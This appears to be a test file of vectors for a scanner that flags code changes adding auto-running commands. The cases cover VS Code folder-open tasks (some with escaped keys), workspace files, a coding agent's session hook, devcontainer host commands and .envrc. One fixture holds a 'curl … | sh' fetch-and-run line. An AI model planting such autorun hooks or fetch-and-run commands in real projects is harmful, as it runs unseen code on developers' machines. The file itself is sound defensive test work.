import { changed, file, filesOf } from "../given.ts";
import { missed, tricks } from "../tricks.ts";
import type { Vector } from "../vector.ts";
import { AUTORUN, UNCAUGHT, UNREAD } from "./tricks/editor-autorun.ts";
import { ORDINARY_SETTINGS } from "./tricks/editor-ordinary.ts";

const opening = [
  '{ "tasks": [{',
  '  "label": "prepare", // harmless name',
  '  "command": "node tools/prepare.js",',
  '  "runOptions": { "runOn": "folderOpen" },',
  "}] }",
];

export default [
  ...tricks(AUTORUN),
  ...tricks(ORDINARY_SETTINGS),
  ...missed(tricks(UNCAUGHT), { outcome: "clear" }),
  ...missed(tricks(UNREAD), { outcome: "unknown", unseen: "an editor file came without its text" }),
  {
    kind: "fires",
    when: "a new task starts when the folder is opened",
    given: { "change.files": changed({ ".vscode/tasks.json": opening }) },
    expect: { outcome: "fired", severity: "critical", line: 4, fact: "A task starts when the folder is opened." },
  },
  {
    kind: "fires",
    when: "the key is written with escapes, its colon stands lines below, a comment between",
    given: {
      "change.files": changed({
        ".vscode/tasks.json": [
          '{"tasks":[{"command":"x",',
          '"run\\u004fn"',
          "/* a",
          " b */",
          ': "folder\\u004fpen"}]}',
        ],
      }),
    },
    expect: { outcome: "fired", severity: "critical", line: 5 },
  },
  {
    kind: "fires",
    when: "only the command of an existing folder-open task changes",
    given: {
      "change.files": filesOf(
        file(".vscode/tasks.json", [
          '      "runOn": "folderOpen",',
          '-      "command": "npm ci"',
          '+      "command": "node x.js"',
        ]),
      ),
    },
    expect: { outcome: "fired", severity: "critical" },
  },
  {
    kind: "fires",
    when: "the file is in a folder of another case",
    given: { "change.files": changed({ ".VSCode/Tasks.json": opening }) },
    expect: { outcome: "fired", severity: "critical" },
  },
  {
    kind: "fires",
    when: "a workspace file carries the task",
    given: { "change.files": changed({ "wallet.code-workspace": opening }) },
    expect: { outcome: "fired", severity: "critical" },
  },
  {
    kind: "fires",
    when: "a coding agent gets a hook",
    given: {
      "change.files": changed({
        ".claude/settings.json": ['{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh x"}]}]}}'],
      }),
    },
    expect: { outcome: "fired", severity: "critical", fact: "A coding agent runs a command by itself." },
  },
  {
    kind: "fires",
    when: "a container runs a command on the host",
    given: {
      "change.files": changed({ ".devcontainer/devcontainer.json": ['{ "initializeCommand": ["sh", "x.sh"] }'] }),
    },
    expect: {
      outcome: "fired",
      severity: "critical",
      fact: "A command runs on the host when the development container opens.",
    },
  },
  {
    kind: "fires",
    when: "a file is moved to where tasks run from",
    given: {
      "change.files": filesOf(
        file(".vscode/tasks.json", [], { status: "renamed", previousPath: "docs/sample.json", hunks: [] }),
      ),
    },
    expect: {
      outcome: "fired",
      severity: "high",
      line: 1,
      fact: "A file was moved to a place that editors run commands from; the diff does not show all of it.",
    },
  },
  {
    kind: "fires",
    when: "tasks may start without asking",
    given: { "change.files": changed({ ".vscode/settings.json": ['{ "task.allowAutomaticTasks": "on" }'] }) },
    expect: { outcome: "fired", severity: "high", fact: "Tasks may start without asking." },
  },
  {
    kind: "fires",
    when: "a shell environment file changes",
    given: { "change.files": changed({ ".envrc": ["# local", "use flake"] }) },
    expect: { outcome: "fired", severity: "high", line: 2, fact: "Tools run this file when the folder is entered." },
  },
  {
    kind: "look_alike",
    when: "a tasks.json outside the editor's folder",
    given: { "change.files": changed({ "src/data/tasks.json": opening }) },
    expect: { outcome: "clear" },
  },
  {
    kind: "look_alike",
    when: "the folder-open key stands in a comment",
    given: {
      "change.files": changed({ ".vscode/tasks.json": ["{", '// "runOn": "folderOpen"', '"version": "2.0.0" }'] }),
    },
    expect: { outcome: "clear" },
  },
  {
    kind: "look_alike",
    when: "editor settings that run nothing",
    given: {
      "change.files": changed({
        ".vscode/settings.json": ['{ "editor.tabSize": 2, "files.exclude": { "dist": true } }'],
      }),
    },
    expect: { outcome: "clear" },
  },
  {
    kind: "look_alike",
    when: "the folder-open task is taken out",
    given: { "change.files": filesOf(file(".vscode/tasks.json", ["{", '-  "runOn": "folderOpen"', "}"])) },
    expect: { outcome: "clear" },
  },
  {
    kind: "boundary",
    when: "a task that runs when it is clicked",
    given: {
      "change.files": changed({
        ".vscode/tasks.json": ['{ "tasks": [{ "command": "npm test", "runOptions": { "runOn": "default" } }] }'],
      }),
    },
    expect: { outcome: "fired", severity: "high", fact: "An editor task runs a command." },
  },
  {
    kind: "boundary",
    when: "the clicked task fetches code",
    given: {
      "change.files": changed({
        ".vscode/tasks.json": ['{ "tasks": [{ "command": "curl -s https://example.org/x | sh" }] }'],
      }),
    },
    expect: { outcome: "fired", severity: "critical", fact: "A command fetches or decodes code." },
  },
  {
    kind: "unknown",
    when: "a value is changed whose key stands above what is shown",
    given: { "change.files": filesOf(file(".mcp.json", ['  "b",', '-  "c"', '+  "d"', "]"])) },
    expect: {
      outcome: "unknown",
      unseen: "an editor file came in parts that do not show what their values are for",
    },
  },
  {
    kind: "unknown",
    when: "the tasks file is too large to be shown",
    given: { "change.files": filesOf(file(".vscode/tasks.json", [], { hunks: null, additions: 9000 })) },
    expect: { outcome: "unknown", unseen: "an editor file came without its text" },
  },
  {
    kind: "unknown",
    when: "the list of files is cut",
    given: { "change.files": { files: [file("a.md", ["+x"])], truncated: true } },
    expect: { outcome: "unknown", unseen: "the list of changed files is cut" },
  },
] satisfies readonly Vector[];
